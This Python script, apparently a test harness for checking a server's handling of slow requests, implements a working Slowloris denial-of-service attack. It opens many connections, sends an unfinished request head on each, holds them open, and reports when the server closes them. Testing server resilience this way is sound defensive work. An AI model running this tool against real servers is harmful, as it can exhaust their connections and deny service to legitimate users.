# SPDX-License-Identifier: BSD-3-Clause
"""Slowloris: open N TCP connections, send PARTIAL (a request head that
never ends; Python escapes) on each, and hold them up to SECS seconds or
until the server has closed them all.

Prints "opened=N in S s" once they are open, then "held=N closed=N
first_close=S last_close=S answers=<first 12 bytes of an answer>:<count>,..."
(spaces in answers as '_'; "-" for none).

Connects only to HOST, from the namespace it runs in.

usage: python3 http_hold.py HOST PORT N SECS PARTIAL
"""
import argparse
import select
import socket
import sys
import time

from http_lib import unesc


def hold(host, port, n, secs, partial):
    """Open, send, hold, tally."""
    socks, t0 = [], time.time()
    for _ in range(n):
        x = socket.create_connection((host, port), timeout=5)
        x.sendall(partial)
        x.setblocking(False)
        socks.append(x)
    print("opened=%d in %.2f s" % (n, time.time() - t0))
    sys.stdout.flush()
    closed, answers = {}, {}
    end = t0 + secs
    while time.time() < end and len(closed) < n:
        r, _, _ = select.select([x for x in socks if x.fileno() not in closed], [], [], 0.1)
        for x in r:
            try:
                d = x.recv(65536)
            except ConnectionResetError:
                d = b""
            if d:
                answers.setdefault(x.fileno(), d[:12].decode("latin-1"))
            else:
                closed[x.fileno()] = time.time() - t0
    ts = sorted(closed.values())
    st = {}
    for a in answers.values():
        st[a] = st.get(a, 0) + 1
    print("held=%d closed=%d first_close=%s last_close=%s answers=%s" % (
        n, len(ts), "%.2f" % ts[0] if ts else "-", "%.2f" % ts[-1] if ts else "-",
        ",".join("%s:%d" % (k.replace(" ", "_"), v) for k, v in sorted(st.items())) or "-"))
    for x in socks:
        x.close()


def main():
    ap = argparse.ArgumentParser(description="Hold N connections with an unfinished request head.")
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("n", type=int, help="connections")
    ap.add_argument("secs", type=float, help="hold them at most this long")
    ap.add_argument("partial", help="what to send on each (Python escapes)")
    a = ap.parse_args()
    hold(a.host, a.port, a.n, a.secs, unesc(a.partial))


if __name__ == "__main__":
    main()
